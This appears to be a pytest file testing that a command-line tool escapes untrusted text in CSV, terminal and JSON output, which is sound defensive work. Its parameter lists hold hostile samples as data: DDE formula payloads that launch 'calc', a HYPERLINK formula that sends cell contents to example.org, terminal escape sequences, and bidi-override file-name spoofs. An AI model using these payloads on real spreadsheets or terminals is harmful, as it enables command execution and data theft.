"""Text that others wrote, as the command writes it: to a terminal, a spreadsheet, a program."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from programs import program
from video_command import Actor, VideoCommand

COMMAND = str(program("pentad-cli"))
FORMULAS = ("elements", "formula")


@pytest.fixture
def video(command_program: Path, tmp_path: Path) -> VideoCommand:
    return VideoCommand(command_program, tmp_path / "store")


def run(*arguments: str | Path, given: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [COMMAND, *arguments], input=given, capture_output=True, timeout=60, check=False
    )


def cells(given: str, *options: str) -> list[str]:
    """The first cells of the rows for lines that are no formulas, which are quoted."""
    done = run(*FORMULAS, "--format", "csv", *options, given=given.encode())
    assert done.returncode == 1
    rows = list(csv.reader(io.StringIO(done.stdout.decode(), newline="")))
    return [row[0] for row in rows[1:]]


def feed(title: str, tmp_path: Path) -> Path:
    path = tmp_path / "feed.xml"
    item = f"<item><guid>1</guid><title>{escape(title)}</title></item>"
    path.write_text(f"<rss><channel><title>x</title>{item}</channel></rss>", "utf-8")
    return path


def table_of(title: str, tmp_path: Path) -> str:
    """The line of a feed's entry in a table."""
    done = run("video", "parse", feed(title, tmp_path), "--format", "table")
    assert done.returncode == 0, done.stderr
    return done.stdout.decode().splitlines()[1]


# ---- spreadsheets


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://example.org/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
        '"=1+1',
        "'=1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1+A1",
        "－1+A1",
        "＠SUM(1)",
        "-A1",
        "+E1",
        "-1+E1",
        "=1",
    ],
)
def test_a_formula_of_a_spreadsheet_becomes_text(cell: str) -> None:
    assert cells(cell + "\n") == ["'" + cell]
    assert cells(cell + "\n", "--raw") == [cell]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\tx", "'\tx"),
        ("x;=1+1", "x;'=1+1"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ('x;"=1+1', "x;'\"=1+1"),
        ("x;-5;-", "x;-5;-"),
        (";=1", "';'=1"),
    ],
)
def test_formula_after_a_separator_is_escaped(cell: str, written: str) -> None:
    """Quotes do not help: where a semicolon separates cells, they are not at the start of one."""
    assert cells(cell + "\n") == [written]
    assert cells(cell + "\n", "--raw") == [cell]


@pytest.mark.parametrize(
    "cell",
    ["-12.5", "+5", "-1e-7", "-3101-01-23", "-3101-01-23T05:06:07Z", "-", "x=1", "a-b", "1-2"],
)
def test_numbers_and_dates_are_unchanged(cell: str) -> None:
    assert cells(cell + "\n") == [cell]


def test_numbers_of_elements_are_unchanged() -> None:
    done = run("elements", "show", "He", "--format", "csv")
    raw = run("elements", "show", "He", "--format", "csv", "--raw")
    rows = {row[1]: row[2] for row in csv.reader(io.StringIO(done.stdout.decode()))}
    assert done.stdout == raw.stdout
    assert float(rows["boilingPoint"]) > 0


def test_controls_in_csv_are_written_as_numbers() -> None:
    assert cells("a\x1b[2Jb\x9b1A\x7f\x00c\n") == [r"a\u{1B}[2Jb\u{9B}1A\u{7F}\u{0}c"]
    assert cells("a\x1b[2J\n", "--raw") == ["a\x1b[2J"]


# ---- terminals


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("safe\u202egnp.exe", r"safe\u{202E}gnp.exe"),
        ("a\u2066b\u2069c", r"a\u{2066}b\u{2069}c"),
        ("ad\u200bmin", r"ad\u{200B}min"),
        ("ad\u200dmin", r"ad\u{200D}min"),
        ("ad\u2060min\ufeff", r"ad\u{2060}min\u{FEFF}"),
        ("a\u00adb", r"a\u{AD}b"),
        ("hi\U000e0068\U000e0069", r"hi\u{E0068}\u{E0069}"),
        ("a\ufe00\ufe01b", "a\ufe00" + r"\u{FE01}b"),
        ("a\u2028b", "a b"),
        ("a\x85b\x9b2Jc", r"a b\u{9B}2Jc"),
    ],
)
def test_invisible_and_reordering_characters_are_shown_in_a_table(
    title: str, shown: str, tmp_path: Path
) -> None:
    assert shown in table_of(title, tmp_path)


@pytest.mark.parametrize(
    "title",
    [
        "👩\u200d👩\u200d👧",
        "❤\ufe0f",
        "क्\u200dष",
        "र्\u200d",
        "می\u200cخواهم",
        "नमस्ते",
        "🇮🇳",
        "日本語",
    ],
)
def test_joiners_that_a_script_needs_stay(title: str, tmp_path: Path) -> None:
    assert title in table_of(title, tmp_path)


def test_columns_are_aligned(tmp_path: Path) -> None:
    items = "".join(
        f"<item><guid>{guid}</guid><title>{title}</title><link>http://e.org/{n}</link></item>"
        for n, (guid, title) in enumerate([("1", "abcdef"), ("2", "日本"), ("3", "e\u0301🎬")])
    )
    path = tmp_path / "feed.xml"
    path.write_text(f"<rss><channel><title>x</title>{items}</channel></rss>", "utf-8")
    lines = run("video", "parse", path, "--format", "table").stdout.decode().splitlines()[1:]
    wide = {"日": 2, "本": 2, "🎬": 2, "\u0301": 0}
    places = [sum(wide.get(c, 1) for c in line[: line.index("http")]) for line in lines]
    assert len(set(places)) == 1


def on_terminal(*arguments: str | Path) -> str:
    """Returns the output of the command on a terminal."""
    reading, terminal = os.openpty()
    with subprocess.Popen([COMMAND, *arguments], stdout=terminal) as process:
        os.close(terminal)
        text = b""
        while True:
            try:
                part = os.read(reading, 4096)
            except OSError:
                break
            text += part
        assert process.wait(60) == 0
    os.close(reading)
    return text.decode()


def test_right_to_left_text_is_isolated_on_a_terminal_alone(tmp_path: Path) -> None:
    path = feed("שלום 1", tmp_path)
    assert "\u2068שלום 1\u2069" in on_terminal("video", "parse", path)
    assert "\u2068" not in on_terminal("video", "parse", feed("Water", tmp_path))
    assert "\u2068" not in run("video", "parse", path, "--format", "table").stdout.decode()
    assert "\u2068" not in run("video", "parse", path, "--format", "json").stdout.decode()


def test_errors_quote_text_without_its_commands() -> None:
    for given in ("\x1b[2J\x9b1A", "a\u202eb", "a\nerror: ok: b"):
        (line,) = run("elements", "show", given).stderr.decode().splitlines()
        assert line.startswith("error: ")
        assert line.isprintable()


def test_act_writes_lines_without_their_commands(video: VideoCommand) -> None:
    with Actor(video, "--offline") as actor:
        assert actor.process.stdin
        assert actor.process.stdout
        actor.process.stdin.write("dance \x1b[2J\u202e\n")
        actor.process.stdin.flush()
        line = actor.process.stdout.readline()
        assert line.startswith(r"failed dance \u{1B}[2J\u{202E}: invalid: ")


# ---- programs


def test_json_escapes_terminal_control_characters(tmp_path: Path) -> None:
    title = "a\x9b2J\u2028b\u2029c\u202e"
    done = run("video", "parse", feed(title, tmp_path), "--format", "json")
    text = done.stdout.decode()
    assert r"a\u009b2J\u2028b\u2029c" in text
    assert text.rstrip("\n").count("\n") == 0
    assert rb"\u007f\u0080" in run(*FORMULAS, given="\x7f\x80".encode()).stdout
    assert json.loads(text)["entries"][0]["title"].startswith("a\x9b2J\u2028b")


def test_jsonl_has_a_line_for_each_line_of_input() -> None:
    given = "H2O\r\nX\u2028Y\n\n".encode() + b"\xff\xfe\n\xef\xbb\xbfH2O\nH2\x00O\nCO2"
    done = run(*FORMULAS, given=given)
    lines = [json.loads(line) for line in done.stdout.decode().split("\n")[:-1]]
    assert [line["formula"] for line in lines] == [
        "H2O", "X\u2028Y", "", "\ufffd\ufffd", "\ufeffH2O", "H2\x00O", "CO2"
    ]  # fmt: skip
    assert ["error" in line for line in lines] == [False, True, True, True, False, True, False]
